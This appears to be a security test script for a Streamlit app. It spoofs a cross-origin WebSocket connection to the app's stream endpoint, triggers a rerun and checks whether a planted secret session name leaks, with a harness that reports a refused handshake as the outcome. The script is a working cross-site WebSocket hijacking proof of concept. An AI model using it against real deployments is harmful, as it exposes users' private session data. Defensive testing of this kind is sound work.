"""A page from another port of this machine reads the names of the user's sessions through the page's WebSocket."""

from streamlit.proto.BackMsg_pb2 import BackMsg
from support.attack import Refused, Target, run
from websockets.exceptions import InvalidStatus
from websockets.sync.client import connect

SECRET = "The merger with Initech"


def attack(target: Target) -> str:
    target.session(SECRET)
    stream = f"ws{target.serve().removeprefix('http')}/_stcore/stream"
    message = BackMsg()
    message.rerun_script.query_string = ""
    try:
        with connect(stream, origin="http://localhost:9999", proxy=None, subprotocols=["streamlit"]) as socket:
            socket.send(message.SerializeToString())
            while SECRET.encode() not in (part := socket.recv(timeout=60)):
                if b"script_finished" in part:
                    raise RuntimeError("The page was read, and the session's name was not in it")
    except InvalidStatus as error:
        raise Refused(f"the handshake is answered with {error.response.status_code}") from error
    return f"another origin's page read {SECRET!r}"


run(attack)
